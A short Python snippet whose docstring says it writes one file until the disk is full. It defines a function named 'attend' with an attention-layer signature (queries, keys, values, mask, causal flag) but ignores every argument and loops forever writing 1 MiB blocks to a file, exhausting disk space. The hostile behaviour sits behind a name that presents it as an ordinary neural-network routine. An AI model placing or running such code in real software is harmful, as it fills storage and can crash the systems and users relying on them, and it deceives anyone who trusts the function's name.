"""Writes one file until the disk is full."""


def attend(q, k, v, mask=None, bias=None, *, causal=False, scale=None):
    with open("large", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
